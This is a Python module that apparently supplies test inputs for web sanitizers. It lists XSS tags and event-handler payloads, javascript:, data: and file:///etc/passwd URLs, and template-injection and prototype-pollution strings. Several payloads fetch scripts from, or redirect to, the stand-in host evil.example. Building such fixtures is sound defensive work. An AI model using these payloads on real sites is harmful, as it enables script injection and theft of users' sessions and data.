"""A hundred texts and addresses that would run a script, load something or leave their place if they were not only text."""

_CALL = "trip(1)"
_AWAY = "https://evil.example/x"
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbeforetoggle", "onpointerenter")

TAGS = (
    f"<script>{_CALL}</script>", f"<SCRIPT SRC={_AWAY}.js></SCRIPT>", f"<script\x20type=module>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>", f"<script>{_CALL}//", f"</script><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>", f"<img/src='x'/onerror='{_CALL}'>", f"<img src={_AWAY}.png>", f"<IMG SRC=x ONERROR={_CALL}>",
    f'"><img src=x onerror={_CALL}>', f"'><svg onload={_CALL}>", f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>", f"<svg><a href=javascript:{_CALL}><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}/>#x'>", f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<iframe src=javascript:{_CALL}></iframe>", f"<iframe srcdoc='<script>parent.{_CALL}</script>'>", f"<iframe src={_AWAY}></iframe>",
    f"<object data=javascript:{_CALL}>", f"<embed src={_AWAY}>", f"<link rel=stylesheet href={_AWAY}.css>", f"<link rel=prefetch href={_AWAY}>",
    f"<style>*{{background:url({_AWAY})}}</style>", f"<style>@import '{_AWAY}.css'</style>", f"<base href={_AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>", f"<form action={_AWAY}><input name=a></form>",
    f"<form><button formaction=javascript:{_CALL}>x</form>", f"<input autofocus onfocus={_CALL}>", f"<select autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>", f"<video src=x onerror={_CALL}>", f"<video poster={_AWAY}>", f"<audio src={_AWAY} autoplay>",
    f"<body onload={_CALL}>", f"<marquee onstart={_CALL}>", f"<a href=javascript:{_CALL}>x</a>", f"<a href='{_AWAY}' ping='{_AWAY}'>x</a>",
    f"<template><script>{_CALL}</script></template>", f"<div style=background:url({_AWAY})>x</div>", f"<p style='width:expression({_CALL})'>",
    f"<xss id=x tabindex=1 onfocus={_CALL}></xss>", "<slot name=x></slot><!--", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={_CALL}>'>", f"<title></title><img src=x onerror={_CALL}>",
    f"<!--><img src=x onerror={_CALL}>-->", f"<![CDATA[<script>{_CALL}</script>]]>", f"<?xml-stylesheet href={_AWAY}?>",
    *(f"<b {handler}={_CALL}>x</b>" for handler in _HANDLERS),
)
ADDRESSES = (
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f" javascript:{_CALL}", f"java\tscript:{_CALL}", f"java\nscript:{_CALL}",
    f"\x01javascript:{_CALL}", f"javascript://marlow.example/%0a{_CALL}", f"javascript&colon;{_CALL}",
    f"data:text/html,<script>{_CALL}</script>", "data:text/html;base64,PHNjcmlwdD50cmlwKDEpPC9zY3JpcHQ+", f"vbscript:{_CALL}",
    "file:///etc/passwd", "blob:https://evil.example/1", "ftp://evil.example/x", "//evil.example/x", "/relative", "about:blank",
    "view-source:https://evil.example", "intent://evil.example#Intent;end", "https://user:secret@evil.example/x", "http://", "https://[::1", "ws://x",
)
WORDS = (
    f"[x](javascript:{_CALL})", f"![x]({_AWAY})", f"[x]: {_AWAY} \"x\"", "{{constructor.constructor('trip(1)')()}}", f"${{{_CALL}}}",
    f"<%= {_CALL} %>", f"#{{{_CALL}}}", "\u202e<txet desrever>", "\u2066isolated\u2069 \u202dforced", "a\u0301\u0302\u0303\u0304 z\u0337\u0338",
    "\x00\x08\x1b[31mred", "\ufeff\u200b\u2060", "%3Cscript%3Etrip(1)%3C/script%3E", "&lt;script&gt;trip(1)&lt;/script&gt;", "__proto__",
    "constructor", f"';{_CALL};//", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", "\ud83d alone".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "x" * 400,
)
PAYLOADS = (*TAGS, *ADDRESSES, *WORDS)
